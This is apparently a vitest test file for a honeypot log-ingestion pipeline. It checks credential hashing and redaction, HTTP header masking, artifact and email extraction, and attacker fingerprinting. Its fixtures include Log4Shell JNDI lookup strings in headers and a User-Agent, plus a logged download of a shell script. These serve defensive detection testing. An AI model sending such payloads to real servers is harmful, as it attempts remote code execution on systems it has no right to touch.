/**
 * Extraction and redaction (eventplane.md §8.6, CORRECTIONS #7.5, #7.6, analysis.md §4.1):
 * credentials hashed with their kind, values redacted from fields and raw lines, artifacts,
 * mail events and fingerprints.
 */
import { describe, expect, it } from 'vitest';
import { extract, type ExtractOptions } from '../../src/ingest/extract.js';
import { fingerprintsOf } from '../../src/ingest/fingerprints.js';
import { LineDecoder, REDACTED, type LogRecord } from '../../src/ingest/index.js';
import { maskUnparsed } from '../../src/ingest/redact.js';

const HUNTER2 = 'f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7';
const OPTS: ExtractOptions = { storePlaintext: false, internalPrefix: 'decnet-' };

function rec(line: string, format: 'rfc5424' | 'cowrie' | 'opencanary' = 'rfc5424'): LogRecord {
  const d = new LineDecoder({ format, source: 's' }).decode({ text: line }, '2026-05-01T13:00:00.000000Z');
  if (d.kind !== 'row') throw new Error(JSON.stringify(d));
  return d.record;
}

const LOGIN = '<134>1 2026-05-01T12:00:00.000000Z decky-05 ftp - login_attempt [relay@55555 src_ip="203.0.113.9" principal="admin" secret_printable="hunter2" secret_b64="aHVudGVyMg==" secret_kind="plaintext" outcome="failure"]';

describe('credentials', () => {
  it('hashes the decoded secret_b64, keeps the kind, adds secret_sha256 and redacts the values', () => {
    const r = rec(LOGIN);
    const x = extract(r, OPTS);
    expect(x.credential).toEqual({ attackerIp: '203.0.113.9', decky: 'decky-05', service: 'ftp', principal: 'admin', secretKind: 'plaintext', secretSha256: HUNTER2, secretPrintable: null, secretB64: null, seenAt: '2026-05-01T12:00:00.000000Z' });
    expect(r.fields).toMatchObject({ secret_printable: REDACTED, secret_b64: REDACTED, secret_kind: 'plaintext', secret_sha256: HUNTER2, principal: 'admin' });
    expect(r.rawLine).not.toContain('hunter2');
    expect(r.rawLine).not.toContain('aHVudGVyMg==');
    expect(r.rawLine).toContain(`secret_b64="${REDACTED}"`);
  });

  it('keeps the plaintext with DECNET_STORE_PLAINTEXT_CREDENTIALS', () => {
    const r = rec(LOGIN);
    const x = extract(r, { ...OPTS, storePlaintext: true });
    expect(x.credential).toMatchObject({ secretPrintable: 'hunter2', secretB64: 'aHVudGVyMg==', secretSha256: HUNTER2 });
    expect(r.rawLine).toBe(LOGIN);
    expect(r.fields.secret_printable).toBe('hunter2');
  });

  it('drops a credential whose base64 is invalid, keeping (and redacting) the row', () => {
    const r = rec('<134>1 - decky-05 ftp - login_attempt [relay@55555 src_ip="203.0.113.9" principal="a" secret_b64="not base64!" secret_printable="x"]');
    const x = extract(r, OPTS);
    expect(x.credential).toBeNull();
    expect(x.credentialDropped).toBe('bad_base64');
    expect(r.fields.secret_sha256).toBeUndefined();
    expect(r.fields.secret_b64).toBe(REDACTED);
  });

  it('a credential without an address or decky is not kept (but its row is, hashed and redacted)', () => {
    const r = rec('<134>1 - - ftp - login_attempt [relay@55555 principal="a" secret_b64="aHVudGVyMg=="]');
    const x = extract(r, OPTS);
    expect(x.credentialDropped).toBe('no_target');
    expect(r.fields.secret_sha256).toBe(HUNTER2);
  });

  it('printable from bytes outside 0x20–0x7e as ?, and the caps', () => {
    const b64 = Buffer.from([0x41, 0x00, 0xff, 0x42]).toString('base64');
    const long = 'p'.repeat(300);
    const x = extract(rec(`<134>1 - d s - login_attempt [relay@55555 src_ip="192.0.2.1" principal="${long}" secret_b64="${b64}" secret_kind="vnc_des_response"]`), { ...OPTS, storePlaintext: true });
    expect(x.credential).toMatchObject({ secretPrintable: 'A??B', secretKind: 'vnc_des_response' });
    expect(x.credential?.principal).toHaveLength(256);
  });

  it('Cowrie: the password field, the raw JSON and the message are redacted', () => {
    const line = JSON.stringify({ eventid: 'cowrie.login.failed', username: 'root', password: 'qwerty', message: 'login attempt [root/qwerty] failed', sensor: 'decky-01', src_ip: '198.51.100.23', session: 's', timestamp: '2026-05-01T12:00:07.842306Z' });
    const r = rec(line, 'cowrie');
    const x = extract(r, OPTS);
    expect(x.credential?.secretSha256).toBe('65e84be33532fb784c48129675f9eff3a682b27168c0ea744b2cf58ee02337c5');
    expect(r.fields.password).toBe(REDACTED);
    expect(r.msg).toBe(`login attempt [root/${REDACTED}] failed`);
    expect(r.rawLine).not.toContain('qwerty');
    expect(JSON.parse(r.rawLine)).toMatchObject({ password: REDACTED, message: `login attempt [root/${REDACTED}] failed` });
  });

  it('OpenCanary: PASSWORD is redacted in the raw JSON', () => {
    const r = rec(JSON.stringify({ logdata: { USERNAME: 'root', PASSWORD: 'toor' }, logtype: 4002, node_id: 'decky-02', src_host: '198.51.100.23', utc_time: '2026-05-01 12:10:04.882915' }), 'opencanary');
    extract(r, OPTS);
    expect(r.rawLine).not.toContain('toor');
    expect((JSON.parse(r.rawLine) as { logdata: Record<string, string> }).logdata.PASSWORD).toBe(REDACTED);
  });
});

describe('HTTP header redaction', () => {
  const headers = (h: unknown): string => JSON.stringify(h).replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]');

  it('redacts authorization, proxy-authorization and cookie values, keeping ${…} exploit strings', () => {
    const h = { Host: 'x', Authorization: 'Basic dG9tY2F0OnMzY3JldA==', Cookie: 'sid=abc', 'Proxy-Authorization': 'Bearer t0k', 'X-Api': '${jndi:ldap://e/a}', 'User-Agent': 'curl/8' };
    const r = rec(`<134>1 - decky-03 http - request [relay@55555 src_ip="203.0.113.7" headers="${headers(h)}"]`);
    extract(r, OPTS);
    expect(JSON.parse(r.fields.headers ?? '')).toEqual({ ...h, Authorization: REDACTED, Cookie: REDACTED, 'Proxy-Authorization': REDACTED });
    expect(r.rawLine).not.toContain('dG9tY2F0');
    expect(r.rawLine).not.toContain('sid=abc');
    const exploit = rec(`<134>1 - decky-03 http - request [relay@55555 headers="${headers({ Cookie: '${jndi:ldap://e/a}' })}"]`);
    extract(exploit, OPTS);
    expect(JSON.parse(exploit.fields.headers ?? '')).toEqual({ Cookie: '${jndi:ldap://e/a}' });
  });

  it('handles the [[name, value]…] form and leaves invalid JSON alone', () => {
    const r = rec(`<134>1 - d http - request [relay@55555 headers="${headers([['cookie', 'a=b'], ['Host', 'h']])}"]`);
    extract(r, OPTS);
    expect(JSON.parse(r.fields.headers ?? '')).toEqual([['cookie', REDACTED], ['Host', 'h']]);
    const bad = rec('<134>1 - d http - request [relay@55555 headers="{not json"]');
    extract(bad, OPTS);
    expect(bad.fields.headers).toBe('{not json');
  });
});

describe('unparsed masking (best effort)', () => {
  it('masks recognisable secrets', () => {
    expect(maskUnparsed('<13>1 broken [relay@55555 secret_printable="hunter2" secret_b64="aHVudGVyMg=="')).toBe(`<13>1 broken [relay@55555 secret_printable="${REDACTED}" secret_b64="${REDACTED}"`);
    expect(maskUnparsed('{"username": "root", "password": "toor", "x": ')).toBe(`{"username": "root", "password": "${REDACTED}", "x": `);
    expect(maskUnparsed('{"logdata": {"PASSWORD": "p\\"w"}')).toBe(`{"logdata": {"PASSWORD": "${REDACTED}"}`);
  });
});

describe('artifacts and mail', () => {
  it('file_captured is a file artifact', () => {
    const x = extract(rec(JSON.stringify({ eventid: 'cowrie.session.file_download', url: 'http://192.0.2.80/bins.sh', shasum: 'ab'.repeat(32), outfile: 'dl/ab', sensor: 'decky-01', src_ip: '198.51.100.23', session: 's', timestamp: '2026-05-01T12:00:22.913804Z' }), 'cowrie'), OPTS);
    expect(x.artifact).toEqual({ kind: 'file', attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', sha256: 'ab'.repeat(32), url: 'http://192.0.2.80/bins.sh', storedAs: 'dl/ab' });
  });

  it('message_stored gives email.received fields (hashes, counts, domains) and, for smtp_relay, the probe', () => {
    const line =
      '<134>1 2026-05-01T12:30:00.000000Z decky-04 smtp_relay - message_stored [relay@55555 src_ip="203.0.113.20" subject="Invoice" from_domain="example.net" mail_from_domain="example.net" return_path_domain="example.net" rcpt_count="2" rcpt_domains="[\\"example.com\\",\\"example.org\\"\\]" x_mailer="PHPMailer" dkim_signed="false" spf_pass="true" urls="[\\"http://192.0.2.7/x\\"\\]" attachment_count="1" attachment_sha256s="[\\"' +
      'cd'.repeat(32) +
      '\\"\\]" attachment_extensions="[\\"zip\\"\\]" body_simhash="f00dfeed" body_base64_bytes="2048" attachment_macros="false" attachment_password_protected="true" html_smuggling="false" stored_as="mail/0001.eml" body_sha256="' +
      'ef'.repeat(32) +
      '" mail_from="billing@example.net" rcpt_to="[\\"a@example.com\\",\\"b@example.org\\"\\]"]';
    const x = extract(rec(line), OPTS);
    expect(x.mail?.email).toEqual({
      source_id: 0,
      attacker_uuid: null,
      attacker_ip: '203.0.113.20',
      decky_id: 'decky-04',
      service: 'smtp_relay',
      subject: 'Invoice',
      from_domain: 'example.net',
      mail_from_domain: 'example.net',
      return_path_domain: 'example.net',
      rcpt_count: 2,
      rcpt_domains: ['example.com', 'example.org'],
      x_mailer: 'PHPMailer',
      dkim_signed: false,
      spf_pass: true,
      urls: ['http://192.0.2.7/x'],
      attachment_count: 1,
      attachment_sha256s: ['cd'.repeat(32)],
      attachment_extensions: ['zip'],
      body_simhash: 'f00dfeed',
      body_base64_bytes: 2048,
      attachment_macros: false,
      attachment_password_protected: true,
      html_smuggling: false,
      stored_as: 'mail/0001.eml',
      body_sha256: 'ef'.repeat(32),
    });
    expect(JSON.stringify(x.mail?.email)).not.toContain('@');
    expect(x.mail?.probe).toEqual({ decky: 'decky-04', attacker_ip: '203.0.113.20', stored_as: 'mail/0001.eml', mail_from: 'billing@example.net', rcpt_to: ['a@example.com', 'b@example.org'] });
    expect(x.artifact).toMatchObject({ kind: 'email', sha256: 'ef'.repeat(32), storedAs: 'mail/0001.eml', url: null });
  });

  it('a plain smtp service gets no probe', () => {
    expect(extract(rec('<134>1 - decky-04 smtp - message_stored [relay@55555 src_ip="203.0.113.20" stored_as="m"]'), OPTS).mail?.probe).toBeNull();
  });
});

describe('fingerprints (analysis.md §4.1)', () => {
  const fp = (line: string): Array<{ kind: string; value: string; port: number | null; source: string }> => fingerprintsOf(rec(line), 'decnet-').map(({ kind, value, port, source }) => ({ kind, value, port, source }));

  it('prober lines are active', () => {
    expect(fp('<134>1 - decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="203.0.113.7" target_port="443" jarm_hash="2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5"]')).toEqual([
      { kind: 'jarm', value: '2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5', port: 443, source: 'active' },
    ]);
    expect(fp('<134>1 - decnet-prober prober - hassh_server [relay@55555 target_ip="203.0.113.7" target_port="22" hassh_server_hash="aa" ssh_banner="SSH-2.0-x"]')[0]).toMatchObject({ kind: 'hassh_server', port: 22 });
    expect(fp('<134>1 - decnet-prober prober - tcp_fingerprint [relay@55555 target_ip="203.0.113.7" tcpfp_hash="bb" ttl="64"]')[0]?.kind).toBe('tcpfp');
    expect(fp('<134>1 - decnet-prober prober - icmp_fp [relay@55555 target_ip="203.0.113.7" icmp_fp_hash="cc"]')[0]?.kind).toBe('icmp_error');
  });

  it('sniffer and HTTP lines are passive', () => {
    expect(fp('<134>1 - decky-03 sniffer - tls_client_hello [relay@55555 src_ip="203.0.113.7" dst_port="443" ja3="j3" ja4="j4"]')).toEqual([
      { kind: 'ja3', value: 'j3', port: 443, source: 'passive' },
      { kind: 'ja4', value: 'j4', port: 443, source: 'passive' },
    ]);
    expect(fp('<134>1 - decky-03 sniffer - quic_client_hello [relay@55555 src_ip="203.0.113.7" ja4="q4"]')).toEqual([{ kind: 'ja4_quic', value: 'q4', port: null, source: 'passive' }]);
    expect(fp('<134>1 - decky-03 http - request [relay@55555 src_ip="203.0.113.7" user_agent="sqlmap/1.7"]')).toEqual([{ kind: 'http_useragent', value: 'sqlmap/1.7', port: null, source: 'passive' }]);
    const tls = fp('<134>1 - decky-03 sniffer - tls_certificate [relay@55555 src_ip="203.0.113.7" dst_port="443" subject_cn="evil.example" issuer="evil.example"]');
    expect(tls[0]).toMatchObject({ kind: 'tls_certificate', port: 443 });
    expect(tls[0]?.value).toMatch(/^[0-9a-f]{64}$/);
    expect(fp('<134>1 - decky-03 sniffer - ipv6_link_local_leak [relay@55555 src_ip="203.0.113.7" addr="fe80::1"]')[0]).toMatchObject({ kind: 'ipv6_leak', value: 'fe80::1' });
    expect(fp('<134>1 - decky-03 http2 - http2_settings [relay@55555 src_ip="203.0.113.7" settings="1:65536" frame_order="s,w"]')[0]?.kind).toBe('http2_settings');
    expect(fp('<134>1 - decky-08 vnc - client_version [relay@55555 src_ip="203.0.113.7" version="RFB 003.008"]')).toEqual([{ kind: 'vnc_client_version', value: 'RFB 003.008', port: null, source: 'passive' }]);
  });

  it('headers give the user agent with its class and the header-order hash', () => {
    const all = fingerprintsOf(rec('<134>1 - decky-03 http - request [relay@55555 src_ip="203.0.113.7" headers="{\\"Host\\":\\"h\\",\\"User-Agent\\":\\"${jndi:ldap://x/a}\\"}"]'), 'decnet-');
    expect(all.map((f) => f.kind)).toEqual(['http_useragent', 'http_quirks']);
    expect(all[0]?.details).toEqual({ category: 'exploit', tool: 'log4shell' });
    expect(all[1]?.details).toEqual({ header_order: ['Host', 'User-Agent'] });
  });
});
